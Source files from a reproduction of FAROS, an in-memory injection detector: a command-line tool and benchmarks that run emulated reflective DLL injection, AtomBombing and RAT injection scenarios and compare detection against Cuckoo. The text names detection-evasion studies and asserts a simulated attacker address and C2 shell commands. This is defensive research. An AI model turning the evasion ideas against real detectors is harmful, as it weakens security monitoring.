    from repro.analysis.experiments import overhead_experiment
    from repro.analysis.tables import render_table5

    print(render_table5(overhead_experiment(repeat=args.repeat)))


def _cmd_compare(args: argparse.Namespace) -> Optional[dict]:
    from repro.analysis.experiments import comparison_matrix
    from repro.analysis.tables import render_comparison_matrix

    rows = comparison_matrix(include_transient=True, **_triage_kwargs(args))
    print(render_comparison_matrix(rows))
    return _triage_payload("compare", args, rows)


def _cmd_indirect(args: argparse.Namespace) -> None:
    from repro.analysis.indirect_flows import (
        indirect_flow_experiment,
        render_indirect_flow_table,
    )

    print(render_indirect_flow_table(indirect_flow_experiment()))


def _cmd_evasion(args: argparse.Namespace) -> None:
    from repro.analysis.evasion import (
        stub_scanner_experiment,
        tag_pressure_experiment,
        taint_laundering_experiment,
    )

    laundering = taint_laundering_experiment()
    print("E12a -- control-dependency taint laundering (§VI-D)")
    print(f"  stage executed            : {laundering.stage_ran}")
    print(f"  default policy detected   : {laundering.default_policy_detected}")
    print(f"  control-dep policy caught : {laundering.control_dep_policy_detected}")
    print()
    scanner = stub_scanner_experiment()
    print("E12b -- stub-scanning resolver (export table avoided)")
    print(f"  stage executed            : {scanner.stage_ran}")
    print(f"  default policy detected   : {scanner.default_policy_detected}")
    print(f"  kernel-code policy caught : {scanner.kernel_code_policy_detected}")
    print()
    pressure = tag_pressure_experiment()
    print("E12c -- tag-memory pressure")
    print(f"  file tags minted          : {pressure.file_tags}")
    print(f"  netflow tags minted       : {pressure.netflow_tags}")
    print(f"  map capacity (per type)   : {pressure.map_capacity}")


_TIMELINE_ATTACKS = {
    "reflective": "build_reflective_dll_scenario",
    "hollowing": "build_process_hollowing_scenario",
    "code": "build_code_injection_scenario",
    "dropper": "build_drop_reload_scenario",
    "atombombing": "build_atombombing_scenario",
}


def _cmd_timeline(args: argparse.Namespace) -> None:
    import repro.attacks as attacks
    from repro.faros import Faros

    builder = getattr(attacks, _TIMELINE_ATTACKS[args.attack])
    attack = builder()
    faros = Faros()
    attack.scenario.run(plugins=[faros])
    if getattr(args, "json", False):
        import json

        print(json.dumps(faros.report().to_dict(), indent=2))
        return
    print(faros.render_timeline())
    print()
    print(faros.report().render())


def _cmd_all(args: argparse.Namespace) -> Optional[dict]:
    payloads = {}
    for name in ("detect", "table2", "table3", "table4", "table5", "compare",
                 "indirect", "evasion"):
        print(f"\n{'=' * 70}\n== {name}\n{'=' * 70}")
        payload = _COMMANDS[name](args)
        if payload is not None:
            payloads[name] = payload
    return {"command": "all", "results": payloads}


_COMMANDS: Dict[str, Callable[[argparse.Namespace], Optional[dict]]] = {
    "detect": _cmd_detect,
    "table2": _cmd_table2,
    "table3": _cmd_table3,
    "table4": _cmd_table4,
    "table5": _cmd_table5,
    "compare": _cmd_compare,
    "indirect": _cmd_indirect,
    "evasion": _cmd_evasion,
    "timeline": _cmd_timeline,
    "all": _cmd_all,
}


def _add_triage_flags(sub: argparse.ArgumentParser) -> None:
    sub.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="shard samples over N worker processes (1 = in-process serial)",
    )
    sub.add_argument(
        "--timeout", type=float, default=None, metavar="S",
        help="per-sample wall-clock timeout in seconds (needs --jobs >= 2)",
    )
    sub.add_argument(
        "--json", default=None, metavar="OUT",
        help="write machine-readable triage results to OUT ('-' = stdout)",
    )


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="FAROS reproduction: regenerate the paper's evaluation artifacts.",
    )
    sub = parser.add_subparsers(dest="command", required=True)
    detect = sub.add_parser("detect", help="run the six in-memory attacks under FAROS")
    _add_triage_flags(detect)
    sub.add_parser("table2", help="FAROS provenance output sample")
    table3 = sub.add_parser("table3", help="JIT false-positive study")
    _add_triage_flags(table3)
    table4 = sub.add_parser("table4", help="corpus false-positive study")
    table4.add_argument("--full", action="store_true", help="run all 104 samples")
    _add_triage_flags(table4)
    table5 = sub.add_parser("table5", help="FAROS overhead measurement")
    table5.add_argument("--repeat", type=int, default=3, help="timing repetitions")
    compare = sub.add_parser("compare", help="FAROS vs Cuckoo vs Cuckoo+malfind")
    _add_triage_flags(compare)
    sub.add_parser("indirect", help="Figs. 1-2 indirect-flow dilemma")
    sub.add_parser("evasion", help="§VI-D evasion studies")
    timeline = sub.add_parser("timeline", help="analysis timeline for one attack")
    timeline.add_argument(
        "attack",
        choices=sorted(_TIMELINE_ATTACKS),
        help="which attack scenario to analyse",
    )
    timeline.add_argument(
        "--json", action="store_true", help="emit the machine-readable report"
    )
    everything = sub.add_parser("all", help="regenerate every artifact")
    everything.add_argument("--full", action="store_true", help="full corpus")
    everything.add_argument("--repeat", type=int, default=3)
    _add_triage_flags(everything)
    return parser


def _write_json(destination: str, payload: dict) -> None:
    import json

    text = json.dumps(payload, indent=2, sort_keys=True)
    if destination == "-":
        print(text)
    else:
        with open(destination, "w", encoding="utf-8") as fh:
            fh.write(text + "\n")


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    payload = _COMMANDS[args.command](args)
    destination = getattr(args, "json", None)
    # (timeline's --json is a bool flag handled inside the command.)
    if payload is not None and isinstance(destination, str):
        _write_json(destination, payload)
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
