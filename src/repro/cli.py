"""Command-line interface: ``python -m repro <command>``.

One subcommand per paper artifact, so the whole evaluation can be
regenerated from a shell::

    python -m repro detect        # Figs. 7-10: the six attacks
    python -m repro table2        # FAROS output sample
    python -m repro table3        # JIT false positives
    python -m repro table4        # corpus false positives (--full: all 104)
    python -m repro table5        # overhead measurement
    python -m repro compare       # FAROS vs Cuckoo vs Cuckoo+malfind
    python -m repro indirect      # Figs. 1-2 policy dilemma
    python -m repro evasion       # §VI-D evasion studies
    python -m repro all           # everything above
"""

from __future__ import annotations

import argparse
import sys
from typing import Callable, Dict, List, Optional


def _cmd_detect(args: argparse.Namespace) -> None:
    from repro.analysis.experiments import detection_suite
    from repro.analysis.tables import render_detection_suite

    print(render_detection_suite(detection_suite()))


def _cmd_table2(args: argparse.Namespace) -> None:
    from repro.analysis.experiments import table2_output

    print(table2_output())


def _cmd_table3(args: argparse.Namespace) -> None:
    from repro.analysis.experiments import jit_fp_experiment
    from repro.analysis.tables import render_table3

    print(render_table3(jit_fp_experiment()))


def _cmd_table4(args: argparse.Namespace) -> None:
    from repro.analysis.experiments import corpus_fp_experiment
    from repro.analysis.tables import render_table4

    limit = None if args.full else 21
    if not args.full:
        print("(one variant per family; pass --full for all 104 samples)")
    print(render_table4(corpus_fp_experiment(limit=limit)))


def _cmd_table5(args: argparse.Namespace) -> None:
    from repro.analysis.experiments import overhead_experiment
    from repro.analysis.tables import render_table5

    print(render_table5(overhead_experiment(repeat=args.repeat)))


def _cmd_compare(args: argparse.Namespace) -> None:
    from repro.analysis.experiments import comparison_matrix
    from repro.analysis.tables import render_comparison_matrix

    print(render_comparison_matrix(comparison_matrix(include_transient=True)))


def _cmd_indirect(args: argparse.Namespace) -> None:
    from repro.analysis.indirect_flows import (
        indirect_flow_experiment,
        render_indirect_flow_table,
    )

    print(render_indirect_flow_table(indirect_flow_experiment()))


def _cmd_evasion(args: argparse.Namespace) -> None:
    from repro.analysis.evasion import (
        stub_scanner_experiment,
        tag_pressure_experiment,
        taint_laundering_experiment,
    )

    laundering = taint_laundering_experiment()
    print("E12a -- control-dependency taint laundering (§VI-D)")
    print(f"  stage executed            : {laundering.stage_ran}")
    print(f"  default policy detected   : {laundering.default_policy_detected}")
    print(f"  control-dep policy caught : {laundering.control_dep_policy_detected}")
    print()
    scanner = stub_scanner_experiment()
    print("E12b -- stub-scanning resolver (export table avoided)")
    print(f"  stage executed            : {scanner.stage_ran}")
    print(f"  default policy detected   : {scanner.default_policy_detected}")
    print(f"  kernel-code policy caught : {scanner.kernel_code_policy_detected}")
    print()
    pressure = tag_pressure_experiment()
    print("E12c -- tag-memory pressure")
    print(f"  file tags minted          : {pressure.file_tags}")
    print(f"  netflow tags minted       : {pressure.netflow_tags}")
    print(f"  map capacity (per type)   : {pressure.map_capacity}")


_TIMELINE_ATTACKS = {
    "reflective": "build_reflective_dll_scenario",
    "hollowing": "build_process_hollowing_scenario",
    "code": "build_code_injection_scenario",
    "dropper": "build_drop_reload_scenario",
    "atombombing": "build_atombombing_scenario",
}


def _cmd_timeline(args: argparse.Namespace) -> None:
    import repro.attacks as attacks
    from repro.faros import Faros

    builder = getattr(attacks, _TIMELINE_ATTACKS[args.attack])
    attack = builder()
    faros = Faros()
    attack.scenario.run(plugins=[faros])
    if getattr(args, "json", False):
        import json

        print(json.dumps(faros.report().to_dict(), indent=2))
        return
    print(faros.render_timeline())
    print()
    print(faros.report().render())


def _cmd_all(args: argparse.Namespace) -> None:
    for name in ("detect", "table2", "table3", "table4", "table5", "compare",
                 "indirect", "evasion"):
        print(f"\n{'=' * 70}\n== {name}\n{'=' * 70}")
        _COMMANDS[name](args)


_COMMANDS: Dict[str, Callable[[argparse.Namespace], None]] = {
    "detect": _cmd_detect,
    "table2": _cmd_table2,
    "table3": _cmd_table3,
    "table4": _cmd_table4,
    "table5": _cmd_table5,
    "compare": _cmd_compare,
    "indirect": _cmd_indirect,
    "evasion": _cmd_evasion,
    "timeline": _cmd_timeline,
    "all": _cmd_all,
}


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="FAROS reproduction: regenerate the paper's evaluation artifacts.",
    )
    sub = parser.add_subparsers(dest="command", required=True)
    sub.add_parser("detect", help="run the six in-memory attacks under FAROS")
    sub.add_parser("table2", help="FAROS provenance output sample")
    sub.add_parser("table3", help="JIT false-positive study")
    table4 = sub.add_parser("table4", help="corpus false-positive study")
    table4.add_argument("--full", action="store_true", help="run all 104 samples")
    table5 = sub.add_parser("table5", help="FAROS overhead measurement")
    table5.add_argument("--repeat", type=int, default=3, help="timing repetitions")
    sub.add_parser("compare", help="FAROS vs Cuckoo vs Cuckoo+malfind")
    sub.add_parser("indirect", help="Figs. 1-2 indirect-flow dilemma")
    sub.add_parser("evasion", help="§VI-D evasion studies")
    timeline = sub.add_parser("timeline", help="analysis timeline for one attack")
    timeline.add_argument(
        "attack",
        choices=sorted(_TIMELINE_ATTACKS),
        help="which attack scenario to analyse",
    )
    timeline.add_argument(
        "--json", action="store_true", help="emit the machine-readable report"
    )
    everything = sub.add_parser("all", help="regenerate every artifact")
    everything.add_argument("--full", action="store_true", help="full corpus")
    everything.add_argument("--repeat", type=int, default=3)
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    _COMMANDS[args.command](args)
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
