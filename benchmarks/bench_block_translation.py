"""Microbenchmark: interpreted vs block-translated guest execution.

The basic-block translation cache (:mod:`repro.isa.translate`) exists to
make the *recording* half of record/replay cheap: when no plugin needs
per-instruction effects, the machine executes whole cached blocks of
specialized closures instead of fetch/decode/dispatch per instruction.
This benchmark runs the same compute-heavy guest under
``MachineConfig(translate=False)`` (the seed ``step_fast`` loop) and
``translate=True``, then gates on two things:

* **zero drift** -- final instruction count, delivery journal, fault
  records, and guest exit code are bit-identical across the two paths
  (the contract the differential suites pin per-attack);
* **speedup** -- the translated path is at least 2x faster (best-of-3
  wall clock) on the uninstrumented workload.

Standalone smoke run (no pytest needed, used by CI)::

    PYTHONPATH=src python benchmarks/bench_block_translation.py --smoke

It fails (non-zero exit) on drift or if the speedup collapses below 2x.
"""

import sys
import time

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble

#: Hot ALU loop with a store/load pair per outer iteration -- mostly
#: "pure" translated blocks, plus enough memory traffic to exercise the
#: impure (SMC-checked) executor and the page-version bookkeeping.
WORK = """
start:
    movi r5, 2500
outer:
    movi r4, 12
inner:
    muli r6, r6, 3
    addi r6, r6, 7
    xori r6, r6, 0x55
    shli r7, r6, 3
    subi r4, r4, 1
    cmpi r4, 0
    jnz inner
    movi r7, scratch
    st [r7], r6
    ld r2, [r7]
    subi r5, r5, 1
    cmpi r5, 0
    jnz outer
    movi r1, 0
    movi r0, SYS_EXIT
    syscall
pad: .space 512
scratch: .word 0
"""

BUDGET = 400_000
BEST_OF = 3
MIN_SPEEDUP = 2.0


def run_once(translate: bool):
    """One full run; returns (machine, seconds)."""
    machine = Machine(MachineConfig(translate=translate))
    machine.kernel.register_image(
        "work.exe", assemble(program(WORK), base=layout.IMAGE_BASE)
    )
    machine.kernel.spawn("work.exe")
    start = time.perf_counter()
    machine.run(BUDGET)
    return machine, time.perf_counter() - start


def _outcome(machine):
    """Everything the two paths must agree on, in comparable form."""
    return {
        "instret": machine.now,
        "journal": [(at, repr(ev)) for at, ev in machine.journal],
        "faults": [rec.to_json_dict() for rec in machine.fault_records],
        "exit_code": machine.kernel.processes[100].exit_code,
    }


def compare_interpreted_vs_translated(best_of: int = BEST_OF):
    """Paired best-of-N runs; returns (speedup, report). Raises on drift."""
    machines, times = {}, {}
    for translate in (False, True):
        secs = []
        for _ in range(best_of):
            machine, elapsed = run_once(translate)
            secs.append(elapsed)
        machines[translate] = machine
        times[translate] = min(secs)

    interpreted, translated = machines[False], machines[True]
    assert _outcome(translated) == _outcome(interpreted), "execution drifted"
    assert translated.translator is not None and interpreted.translator is None
    stats = translated.translator.stats()
    assert stats["executions"] > 0, "translated run never used the cache"
    assert stats["single_steps"] == 0, "aligned workload should never single-step"

    speedup = times[False] / times[True]
    insns = translated.now
    lines = [
        f"interpreted vs translated, {insns} retired insns, best of {best_of}",
        f"  interpreted : {times[False]:6.2f}s  {insns / times[False]:10.0f} insn/s",
        f"  translated  : {times[True]:6.2f}s  {insns / times[True]:10.0f} insn/s",
        f"  speedup     : {speedup:.2f}x",
        f"  cache       : translations={stats['translations']} "
        f"executions={stats['executions']} chain_hits={stats['chain_hits']} "
        f"invalidations={stats['invalidations']}",
        "  drift       : none (instret, journal, faults, exit code identical)",
    ]
    return speedup, "\n".join(lines)


def test_throughput_interpreted(benchmark):
    machine = benchmark(lambda: run_once(False)[0])
    assert machine.kernel.processes[100].exit_code == 0


def test_throughput_translated(benchmark):
    machine = benchmark(lambda: run_once(True)[0])
    assert machine.kernel.processes[100].exit_code == 0


@pytest.mark.slow
def test_translated_speedup_without_drift(emit):
    speedup, report = compare_interpreted_vs_translated()
    emit("block_translation", report)
    assert speedup >= MIN_SPEEDUP, f"translation only {speedup:.2f}x over interpreter"


def main(argv):
    if "--smoke" not in argv:
        print(__doc__)
        return 2
    speedup, report = compare_interpreted_vs_translated()
    print(report)
    if speedup < MIN_SPEEDUP:
        print(f"FAIL: speedup {speedup:.2f}x < {MIN_SPEEDUP}x", file=sys.stderr)
        return 1
    print("OK")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
