"""Extension bench: snapshot timing vs a transient payload (§I claim).

Quantifies "Volatility can give visibility into memory ... up to a
certain point in time": the same attack dumped at two instants gives
malfind opposite answers, while FAROS' whole-execution view is
timing-independent.
"""

from repro.analysis.snapshots import (
    render_snapshot_timing,
    snapshot_timing_experiment,
)


def test_snapshot_timing(benchmark, emit):
    result = benchmark.pedantic(snapshot_timing_experiment, rounds=3, iterations=1)

    assert result.malfind_at_t1 and result.t1_code_like
    assert not result.malfind_at_t2
    assert result.faros_detected
    assert result.t1_tick < result.t2_tick

    emit("snapshot_timing", render_snapshot_timing(result))
