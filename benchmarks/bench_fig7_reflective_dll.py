"""E1 (Fig. 7): reflective DLL injection via the Meterpreter module.

Regenerates the Fig. 7 provenance diagram: a flagged mov/ld whose
instruction bytes chain NetFlow(169.254.26.161:4444 -> victim) ->
inject_client.exe -> notepad.exe, reading an export-table-tagged
address.
"""

from repro.analysis.experiments import run_attack_analysis
from repro.attacks import build_reflective_dll_scenario


def _run():
    return run_attack_analysis("reflective_dll_inject", build_reflective_dll_scenario())


def test_fig7_reflective_dll_inject(benchmark, emit):
    analysis = benchmark.pedantic(_run, rounds=3, iterations=1)

    assert analysis.detected, "the attack must be flagged"
    chain = analysis.chain
    assert chain.netflow == "169.254.26.161:4444 -> 169.254.57.168:49152"
    assert chain.process_chain.index("inject_client.exe") < chain.process_chain.index(
        "notepad.exe"
    )
    assert chain.instruction.startswith("ld")
    assert chain.rule == "netflow+export-table"

    lines = [
        "Fig. 7 -- provenance tracking for reflective DLL injection",
        f"flagged instruction : {chain.instruction} @ {chain.instruction_address:#x}",
        f"executing process   : {chain.executing_process}",
        f"NetFlow             : {chain.netflow}",
        f"process chain       : {' -> '.join(chain.process_chain)}",
        f"export table read   : {chain.export_table_address:#x}",
        f"rule                : {chain.rule}",
        "",
        analysis.report.render(),
    ]
    emit("fig7_reflective_dll", "\n".join(lines))
