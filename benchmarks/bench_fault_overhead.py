"""Microbenchmark: what does the hardened emulation core cost?

The fault-injection PR threads three checks through the machine's run
loop -- the instruction-budget watchdog, the syscall-step watchdog, and
the progress-sink publish -- all deliberately accounted **per scheduler
slice**, never per instruction.  This bench measures the uninstrumented
fast path (no plugins, no taint) in three configurations over the same
compute-heavy guest:

* ``baseline``  -- stock :class:`~repro.emulator.machine.MachineConfig`;
* ``watchdogs`` -- both budgets armed far above the workload, so every
  slice pays the checks but none fires;
* ``hardened``  -- watchdogs plus an installed
  :class:`~repro.faults.watchdog.SharedProgressSink` (the triage-worker
  configuration).

The gate: the fully hardened configuration must stay within **5%** of
baseline throughput.  Timings take the best of several repetitions, so
the comparison is machine-speed, not scheduler-noise.

Standalone smoke run (no pytest needed, used by CI)::

    PYTHONPATH=src python benchmarks/bench_fault_overhead.py --smoke
"""

import sys
import time

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.faults.watchdog import SharedProgressSink, set_progress_sink
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble

#: Compute-heavy guest with a sparse syscall cadence (so the syscall-step
#: watchdog's counter is exercised across slices but never trips).
WORK = """
start:
    movi r5, 20
outer:
    movi r4, 4000
inner:
    muli r6, r6, 3
    addi r6, r6, 7
    xori r6, r6, 0x55
    subi r4, r4, 1
    cmpi r4, 0
    jnz inner
    movi r1, 1
    movi r0, SYS_SLEEP
    syscall
    subi r5, r5, 1
    cmpi r5, 0
    jnz outer
    movi r1, 0
    movi r0, SYS_EXIT
    syscall
"""

BUDGET = 2_000_000
REPS = 7

#: Armed far above anything the workload reaches: every slice pays the
#: comparison, no run ever faults.
ARMED = dict(instruction_budget=10**12, syscall_step_budget=10**9)


def _run_once(config, sink=None):
    """One timed run; returns (machine, seconds)."""
    set_progress_sink(sink)
    try:
        machine = Machine(config)
        machine.kernel.register_image(
            "work.exe", assemble(program(WORK), base=layout.IMAGE_BASE)
        )
        machine.kernel.spawn("work.exe")
        start = time.perf_counter()
        machine.run(BUDGET)
        return machine, time.perf_counter() - start
    finally:
        set_progress_sink(None)


def compare_overhead(reps=REPS):
    """Run all three configurations; returns (overhead_pct, report).

    Repetitions are interleaved round-robin across the configurations
    and each takes its best time, so slow drift in the host's speed
    (thermal/steal noise) cannot masquerade as configuration cost.
    """
    configs = [
        ("baseline", MachineConfig(), None),
        ("watchdogs armed", MachineConfig(**ARMED), None),
        ("hardened (+sink)", MachineConfig(**ARMED), SharedProgressSink([0] * 4)),
    ]
    best = [float("inf")] * len(configs)
    machines = [None] * len(configs)
    for _ in range(reps):
        for i, (_, config, sink) in enumerate(configs):
            machines[i], seconds = _run_once(config, sink=sink)
            best[i] = min(best[i], seconds)
    base_machine, wd_machine, hard_machine = machines
    base, watchdogs, hardened = best

    # The checks must be invisible to the execution itself.
    assert base_machine.now == wd_machine.now == hard_machine.now
    assert base_machine.fault is None and hard_machine.fault is None
    assert base_machine.kernel.processes[100].exit_code == 0

    insns = base_machine.now
    overhead_pct = (hardened / base - 1.0) * 100.0
    rows = [
        ("baseline", base, None),
        ("watchdogs armed", watchdogs, (watchdogs / base - 1.0) * 100.0),
        ("hardened (+sink)", hardened, overhead_pct),
    ]
    lines = [
        f"hardened-core overhead, uninstrumented fast path "
        f"({insns} insns, quantum {base_machine.config.quantum}, best of {reps})",
    ]
    for name, seconds, delta in rows:
        suffix = "" if delta is None else f"  ({delta:+5.2f}%)"
        lines.append(
            f"  {name:<17}: {seconds:6.3f}s  {insns / seconds:12.0f} insn/s{suffix}"
        )
    lines.append(f"  gate      : hardened within 5% of baseline")
    return overhead_pct, "\n".join(lines)


def test_watchdog_checks_do_not_perturb_execution():
    """Cheap correctness probe: armed budgets change nothing observable."""
    base_machine, _ = _run_once(MachineConfig())
    hard_machine, _ = _run_once(
        MachineConfig(**ARMED), sink=SharedProgressSink([0] * 4)
    )
    assert base_machine.now == hard_machine.now
    assert hard_machine.fault is None
    assert (
        base_machine.kernel.processes[100].exit_code
        == hard_machine.kernel.processes[100].exit_code
        == 0
    )


@pytest.mark.slow
def test_hardened_core_overhead_under_five_percent(emit):
    overhead_pct, report = compare_overhead()
    emit("fault_overhead", report)
    assert overhead_pct < 5.0, f"hardened core costs {overhead_pct:.2f}% (gate: 5%)"


def main(argv):
    if "--smoke" not in argv:
        print(__doc__)
        return 2
    overhead_pct, report = compare_overhead()
    print(report)
    if overhead_pct >= 5.0:
        print(f"FAIL: hardened core overhead {overhead_pct:.2f}% >= 5%", file=sys.stderr)
        return 1
    print("OK")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
