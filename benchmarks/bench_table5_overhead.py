"""E9 (Table V): FAROS' replay-time overhead on six applications.

The paper reports 7x-19.7x slowdown vs PANDA replay (mean 14x, i.e.
~56x vs raw QEMU), with overhead growing with workload complexity.
Absolute numbers are host-dependent; the asserted shape is (a) every
workload slows down by a meaningful factor and (b) the heavier RAT
workloads do not come out cheaper than the idle-ish ones in analysed
instructions.
"""

from repro.analysis.experiments import overhead_experiment
from repro.analysis.tables import render_table5


def test_table5_faros_overhead(benchmark, emit):
    rows = benchmark.pedantic(lambda: overhead_experiment(repeat=3), rounds=1, iterations=1)

    assert len(rows) == 6
    for row in rows:
        assert row.slowdown > 1.5, f"{row.application}: expected real overhead"

    by_name = {r.application: r for r in rows}
    # Complexity shape: the 6-7 behaviour RATs execute more analysed
    # instructions than the 3-behaviour apps.
    assert by_name["Pandora"].instructions > by_name["Skype"].instructions
    assert by_name["Spygate"].instructions > by_name["Team Viewer"].instructions

    emit("table5_overhead", render_table5(rows))
