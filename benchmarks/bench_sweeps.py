"""Extension bench: detection-characteristic curves.

Three series characterising the mechanism beyond the paper's point
measurements: detection latency vs payload size, robustness vs
delivery fragmentation, and analysis cost vs benign noise.
"""

from repro.analysis.sweeps import (
    detection_latency_sweep,
    fragmentation_sweep,
    noise_sweep,
    render_sweeps,
)


def test_detection_characteristic_sweeps(benchmark, emit):
    def _run():
        return (
            detection_latency_sweep((0, 256, 1024, 4096, 8192)),
            fragmentation_sweep((8, 32, 128, 512, 0)),
            noise_sweep((0, 2, 4, 8)),
        )

    latency, fragmentation, noise = benchmark.pedantic(_run, rounds=1, iterations=1)

    assert all(p.detected for p in latency)
    assert [p.latency_ticks for p in latency] == sorted(
        p.latency_ticks for p in latency
    )
    assert all(p.detected and p.netflow_intact for p in fragmentation)
    assert all(p.detected for p in noise)
    costs = [p.instructions_analyzed for p in noise]
    assert costs == sorted(costs)

    emit("detection_sweeps", render_sweeps(latency, fragmentation, noise))
