"""Extension bench: AtomBombing (the paper's ref [1] attack family).

The payload crosses processes through the global atom table + APCs --
no ``NtWriteVirtualMemory``, no ``CreateRemoteThread`` -- so the
event-signature surface sandboxes watch is empty.  FAROS' verdict is
unchanged because the *information flow* is the same.
"""

from repro.attacks import build_atombombing_scenario
from repro.baselines import CuckooSandbox
from repro.faros import Faros
from repro.guestos.syscalls import Sys


def test_atombombing(benchmark, emit):
    def _run():
        attack = build_atombombing_scenario()
        faros = Faros()
        attack.scenario.run(plugins=[faros])
        cuckoo = CuckooSandbox().analyze(attack.scenario)
        return faros, cuckoo

    faros, cuckoo = benchmark.pedantic(_run, rounds=3, iterations=1)

    assert faros.attack_detected
    chain = faros.report().chains()[0]
    assert chain.process_chain == ["atombomber.exe", "explorer.exe"]
    signature_names = {s.name for s in cuckoo.signatures}
    assert "writes_remote_memory" not in signature_names
    assert not cuckoo.detect_injection()
    numbers = {e.number for e in cuckoo.api_calls}
    assert Sys.WRITE_VM not in numbers

    emit(
        "atombombing",
        "AtomBombing (no WriteProcessMemory anywhere)\n"
        f"FAROS detects          : True ({chain.rule})\n"
        f"chain                  : {chain.netflow} -> "
        f"{' -> '.join(chain.process_chain)}\n"
        f"Cuckoo signatures      : {sorted(signature_names)}\n"
        f"Cuckoo injection call  : False (nothing to key on)\n\n"
        + faros.report().render(),
    )
