"""E2 (Fig. 8): reverse_tcp_dns -- self-injection, one process chain."""

from repro.analysis.experiments import run_attack_analysis
from repro.attacks import build_reverse_tcp_dns_scenario


def _run():
    return run_attack_analysis("reverse_tcp_dns", build_reverse_tcp_dns_scenario())


def test_fig8_reverse_tcp_dns(benchmark, emit):
    analysis = benchmark.pedantic(_run, rounds=3, iterations=1)

    assert analysis.detected
    chain = analysis.chain
    # Fig. 8's distinguishing feature: shellcode process == target process.
    assert chain.netflow is not None
    assert set(chain.process_chain) == {"inject_client.exe"}
    assert chain.executing_process == "inject_client.exe"

    lines = [
        "Fig. 8 -- reflective DLL injection via reverse_tcp_dns",
        "(shell code and target process are the same)",
        f"flagged instruction : {chain.instruction} @ {chain.instruction_address:#x}",
        f"NetFlow             : {chain.netflow}",
        f"process chain       : {' -> '.join(chain.process_chain)}",
        f"export table read   : {chain.export_table_address:#x}",
        "",
        analysis.report.render(),
    ]
    emit("fig8_reverse_tcp_dns", "\n".join(lines))
