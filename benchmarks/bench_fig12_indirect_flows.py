"""E11 (Figs. 1-2): the indirect-flow under/overtainting dilemma.

Runs the paper's two example programs under three policies and asserts
the dilemma's structure: direct-only misses both copies, address-deps
fixes Fig. 1 only, all-indirect fixes both at a shadow-footprint cost.
"""

from repro.analysis.indirect_flows import (
    indirect_flow_experiment,
    render_indirect_flow_table,
)


def test_fig12_indirect_flow_dilemma(benchmark, emit):
    results = benchmark.pedantic(indirect_flow_experiment, rounds=1, iterations=1)

    cell = {(r.figure, r.policy): r for r in results}
    assert len(cell) == 6
    assert all(r.output_value_correct for r in results)

    assert not cell[("fig1-address-dep", "direct-only")].output_tainted
    assert not cell[("fig2-control-dep", "direct-only")].output_tainted
    assert cell[("fig1-address-dep", "address-deps")].output_tainted
    assert not cell[("fig2-control-dep", "address-deps")].output_tainted
    assert cell[("fig1-address-dep", "all-indirect")].output_tainted
    assert cell[("fig2-control-dep", "all-indirect")].output_tainted

    # Overtainting cost is visible in the shadow footprint.
    assert (
        cell[("fig1-address-dep", "all-indirect")].tainted_bytes
        > cell[("fig1-address-dep", "direct-only")].tainted_bytes
    )

    emit("fig12_indirect_flows", render_indirect_flow_table(results))
