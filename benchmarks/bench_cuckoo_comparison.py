"""E10 (§VI-B): FAROS vs CuckooBox vs Cuckoo+malfind.

The paper's comparison, extended with transient (self-wiping) payload
variants.  Expected shape:

* Cuckoo alone flags none of the attack classes;
* Cuckoo+malfind flags persistent payloads but provides no netflow or
  provenance, and misses the transient variants;
* FAROS flags everything, always with provenance.
"""

from repro.analysis.experiments import comparison_matrix
from repro.analysis.tables import render_comparison_matrix


def test_cuckoo_comparison_matrix(benchmark, emit):
    rows = benchmark.pedantic(
        lambda: comparison_matrix(include_transient=True), rounds=1, iterations=1
    )

    assert len(rows) == 6
    assert all(r.faros_detects for r in rows)
    assert all(r.faros_has_provenance for r in rows)
    assert all(not r.cuckoo_detects for r in rows)
    for r in rows:
        assert r.malfind_detects == (not r.transient), r.attack

    emit("cuckoo_comparison", render_comparison_matrix(rows))
