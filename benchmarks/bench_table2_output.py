"""E5 (Table II): FAROS' per-address provenance output.

Regenerates the Table II rows: memory addresses of flagged instructions
mapped to provenance lists in the paper's arrow format.
"""

from repro.analysis.experiments import run_attack_analysis
from repro.attacks import build_code_injection_scenario
from repro.faros.report import render_provenance


def _run():
    return run_attack_analysis(
        "code_injection", build_code_injection_scenario(rat="darkcomet")
    )


def test_table2_provenance_output(benchmark, emit):
    analysis = benchmark.pedantic(_run, rounds=3, iterations=1)
    report = analysis.report

    assert report.attack_detected
    rows = []
    for flagged in report.flagged:
        prov = render_provenance(report.tag_store, flagged.insn_prov)
        rows.append(f"{flagged.pc:#012x}  {prov}")
        # Each row must carry the Table II ingredients.
        assert "NetFlow:" in prov
        assert "->Process:" in prov

    emit(
        "table2_faros_output",
        "Table II -- FAROS output for an in-memory injection attack\n"
        + f"{'Memory Address':<14}Provenance List\n"
        + "\n".join(rows),
    )
