"""E6: code/process injection by DarkComet and Njrat (§VI).

Both RATs must be flagged, with provenance 'similar to the reflective
DLL injection experiment' (netflow -> RAT -> victim), and the injected
shell must demonstrably act on C2 commands from inside the victim.
"""

import pytest

from repro.analysis.experiments import run_attack_analysis
from repro.attacks import build_code_injection_scenario
from repro.faros import Faros


@pytest.mark.parametrize("rat", ["darkcomet", "njrat"])
def test_code_injection_rat(benchmark, emit, rat):
    def _run():
        attack = build_code_injection_scenario(rat=rat)
        faros = Faros()
        machine = attack.scenario.run(plugins=[faros])
        return faros, machine

    faros, machine = benchmark.pedantic(_run, rounds=3, iterations=1)

    assert faros.attack_detected
    chain = faros.report().chains()[0]
    assert chain.netflow is not None
    assert f"{rat}.exe" in chain.process_chain
    assert chain.executing_process == "explorer.exe"

    explorer = next(
        p for p in machine.kernel.processes.values() if p.name == "explorer.exe"
    )
    commands = [cmd for pid, cmd in machine.kernel.shell_log if pid == explorer.pid]
    assert "calc.exe" in commands, "the injected shell must run C2 commands"

    emit(
        f"code_injection_{rat}",
